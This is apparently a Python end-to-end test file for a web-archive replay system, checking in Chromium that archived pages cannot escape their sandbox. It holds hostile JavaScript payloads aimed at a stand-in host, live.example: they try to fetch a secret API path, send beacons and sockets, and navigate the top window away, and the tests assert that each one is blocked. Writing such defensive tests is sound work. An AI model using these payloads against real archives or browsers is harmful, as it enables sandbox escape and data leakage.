"""What can a hostile archived page do in a real browser? Nothing, and each defence is seen to be the one.

The control shows what the frame is for: a page that fills the window can still leave it.
"""

import re
from pathlib import Path

import pytest

from tests.herodotus.core.replay.replaying import DATE, drawn, replaying

pytestmark = [pytest.mark.e2e, pytest.mark.needs("chromium")]

HOSTILE = rb"""<!doctype html><html><head><title>h</title><script>
var results = [];
function note(name, value) {
  results.push(name + "=" + value);
  document.getElementById("out").textContent = results.join("; ");
}
function tried(name, attack) {
  try { Promise.resolve(attack()).then(v => note(name, v), e => note(name, "refused")); }
  catch (e) { note(name, "refused"); }
}
addEventListener("load", function () {
  // A second window of the page's own, where no script of ours has changed anything.
  var raw = document.body.appendChild(document.createElement("iframe")).contentWindow;
  var portal = String(location).split("/web/")[0];
  tried("origin", () => URL.createObjectURL(new Blob([])).split("/")[0]);  // of what the browser goes by
  tried("storage", () => { raw.localStorage.a = 1; return raw.localStorage.a; });
  tried("cookie", () => { raw.document.cookie = "a=b"; return raw.document.cookie; });
  tried("worker", () => Object.getOwnPropertyDescriptor(raw.Navigator.prototype, "serviceWorker").get.call(navigator)
    .register("sw.js").then(() => "registered"));
  tried("api", () => raw.fetch(portal + "/api/v1/secret").then(r => r.text()));
  tried("live", () => raw.fetch("http://live.example/fetched").then(r => r.text()));
  tried("window", () => String(window.open("http://live.example/opened")));
  tried("beacon", () => raw.navigator.sendBeacon.call(navigator, "http://live.example/beacon", "x") && "sent?");
  tried("socket", () => new Promise((ok, no) => {
    var s = new WebSocket("ws://live.example/"); s.onopen = () => ok("open"); s.onerror = no;
  }));
  tried("top", () => { raw.eval("top.location = 'http://live.example/top'"); return "tried"; });
  var box = document.body.appendChild(document.createElement("div"));
  box.innerHTML = "<img src=http://live.example/i.png><link rel=stylesheet href=http://live.example/s.css>" +
    "<iframe src='" + portal + "/'></iframe><iframe src=http://live.example/frame></iframe>" +
    "<object data=http://live.example/object></object><embed src=http://live.example/embed>" +
    "<video src=http://live.example/video></video><form id=f method=post action='" + portal + "/save/x' target=t>" +
    "<input name=a value=b></form><form id=g action=http://live.example/form></form><iframe name=t></iframe>";
  tried("save", () => { raw.HTMLFormElement.prototype.submit.call(document.getElementById("f")); return "tried"; });
  var style = document.body.appendChild(document.createElement("style"));
  style.textContent = "body { background: url(http://live.example/css.png) }";
});
</script></head><body><p id=out>nothing</p></body></html>"""


def result(markup: str) -> dict[str, str]:
    found = re.search(r'<p id="out">(.*?)</p>', markup, re.DOTALL)
    assert found is not None, markup[:2_000]
    return dict(pair.partition("=")[::2] for pair in found[1].split("; "))


def test_a_hostile_page_reaches_nothing(tmp_path: Path) -> None:
    with replaying({"http://a.example/": ("text/html", HOSTILE)}) as world:
        seen = result(drawn(world, world.memento("http://a.example/"), tmp_path))
    assert seen["origin"] == "blob:null"
    assert {name: seen[name] for name in ("storage", "cookie", "worker", "api", "live", "window", "socket")} == {
        "storage": "refused", "cookie": "refused", "worker": "refused", "api": "refused", "live": "refused",
        "window": "null", "socket": "refused",
    }  # fmt: skip
    assert world.leaked == []
    outside = [one for one in world.asked if not one[1].startswith("/web/") and one[1] != "/favicon.ico"]
    assert outside == []


AWAY = (
    "window['location'] = 'http://live.example/gone'",  # of another spelling our server leads the address
    "location = 'http://live.example/gone'",
    "location.assign('http://live.example/gone')",
    "window['location']['href'] = 'http://live.example/gone'",
    "top.location = 'http://live.example/gone'",
    "parent.location.replace('http://live.example/gone')",
    "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=http://live.example/gone\">'",
    "document.body.innerHTML = '<form action=http://live.example/gone></form>'; document.forms[0].submit()",
    "document.body.innerHTML = '<a href=http://live.example/gone target=_top>x</a>'; document.links[0].click()",
    "top.postMessage({hd: 'go', url: 'http://live.example/gone'}, '*')",
    "top.postMessage({hd: 'open', url: document.baseURI.split('/web/')[0] + '/api/v1/secret'}, '*')",
)


def test_a_page_in_the_frame_cannot_lead_the_reader_away(tmp_path: Path) -> None:
    pages = {
        f"http://a.example/{number}": (
            "text/html",
            f"<!doctype html><body><script>onload=()=>{{{script}}}</script>".encode(),
        )
        for number, script in enumerate(AWAY)
    }
    frames = "".join(f"<iframe src={number}></iframe>" for number in range(len(AWAY)))
    # The page itself goes last: what it does replaces it.
    itself = "<script>setTimeout(() => { window['location'] = 'http://live.example/gone' }, 2000)</script>"
    pages["http://a.example/"] = ("text/html", f"<!doctype html><body>{frames}{itself}".encode())
    with replaying(pages, is_framed=True) as world:
        markup = drawn(world, world.memento("http://a.example/"), tmp_path)
    assert f"/web/{DATE}mp_/http://a.example/" in markup
    assert "20260101000000" in markup  # the banner is as it was
    asked = {path for _, path in world.asked}
    assert {f"/web/{DATE}if_/http://a.example/{number}" for number in range(len(AWAY))} <= asked
    assert not any(path.startswith("/api") for path in asked)
    assert world.leaked == []


def test_a_page_that_has_others_fetched_ahead_is_taken_at_none_of_its_words(tmp_path: Path) -> None:
    """In a window without a frame, too, as long as it goes the usual ways."""
    page = b"""<!doctype html><body><p id=out>nothing</p><script>
      var rules = JSON.stringify({prefetch: [{urls: ["/ahead"], eagerness: "immediate"}]}), types = [];
      ["type", "setAttribute"].forEach(function (way) {
        var made = document.createElement("script");
        if (way === "type") made.type = "speculationrules"; else made.setAttribute("Type", "SpeculationRules");
        made.textContent = rules;
        types.push(document.body.appendChild(made).type);
      });
      out.textContent = types.map((type, n) => n + "=" + type).join("; ");
    </script></body>"""
    with replaying({"http://a.example/": ("text/html", page)}) as world:
        seen = result(drawn(world, world.memento("http://a.example/"), tmp_path))
    assert seen == {"0": "archived-speculationrules", "1": "archived-speculationrules"}
    assert not any("ahead" in path for _, path in world.asked)


@pytest.mark.parametrize(
    ("arguments", "leaves"), [((), False), (("--disable-features=ConnectionAllowlists",), True)]
)
def test_without_the_frame_only_the_list_of_connections_holds_a_page(
    tmp_path: Path, arguments: tuple[str, ...], leaves: bool
) -> None:
    """Not every browser knows that list, and there such a page leads away."""
    page = f"<!doctype html><body><script>{AWAY[0]}</script>".encode()
    with replaying({"http://a.example/": ("text/html", page)}) as world:
        drawn(world, world.memento("http://a.example/"), tmp_path, *arguments)
    assert ("GET live.example/gone" in world.leaked) is leaves


def test_what_scripts_make_is_led_to_the_date_of_the_page(tmp_path: Path) -> None:
    page = rb"""<!doctype html><html><head></head><body><p id=out>nothing</p><script>
      var results = [];
      function note(v) { results.push(v); document.getElementById("out").textContent = results.join("; "); }
      localStorage.setItem("a", "kept"); document.cookie = "c=d; path=/";
      note("memory=" + localStorage.a + document.cookie);
      fetch("/data.json").then(r => r.json()).then(v => note("fetched=" + v.said));
      var x = new XMLHttpRequest(); x.open("GET", "http://b.example/data.json");
      x.onload = () => note("asked=" + JSON.parse(x.responseText).said); x.send();
      var i = new Image(); i.onload = () => note("image=" + i.width); i.src = "http://b.example/i.svg";
      var s = document.createElement("script"); s.src = "/made.js"; document.body.appendChild(s);
      document.body.insertAdjacentHTML("beforeend", "<img id=stray src=/stray.svg>");
      document.getElementById("stray").onload = e => note("stray=" + e.target.width);
    </script></body></html>"""
    picture = b"<svg xmlns='http://www.w3.org/2000/svg' width='7' height='7'/>"
    pages = {
        "http://a.example/x/y": ("text/html", page),
        "http://a.example/data.json": ("application/json", b'{"said": "a"}'),
        "http://b.example/data.json": ("application/json", b'{"said": "b"}'),
        "http://b.example/i.svg": ("image/svg+xml", picture),
        "http://a.example/stray.svg": ("image/svg+xml", picture),
        "http://a.example/made.js": ("text/javascript", b"note('made=yes')"),
    }
    with replaying(pages) as world:
        seen = result(drawn(world, world.memento("http://a.example/x/y"), tmp_path))
    assert seen == {
        "memory": "keptc=d", "fetched": "a", "asked": "b", "image": "7", "stray": "7", "made": "yes",
    }  # fmt: skip
    assert world.leaked == []


def test_framesets_and_links_to_other_frames_work_in_the_sandbox(tmp_path: Path) -> None:
    menu = b"<!doctype html><body><a id=l href=two target=main>x</a><script>onload = () => l.click()</script>"
    pages = {
        "http://a.example/": (
            "text/html",
            b"<frameset cols='*,*'><frame src=menu><frame name=main src=one></frameset>",
        ),
        "http://a.example/menu": ("text/html", menu),
        "http://a.example/one": ("text/html", b"<p>one"),
        "http://a.example/two": ("text/html", b"<p>two"),
    }
    with replaying(pages) as world:
        drawn(world, world.memento("http://a.example/"), tmp_path)
    assert ("GET", f"/web/{DATE}if_/http://a.example/two") in world.asked
    assert world.leaked == []
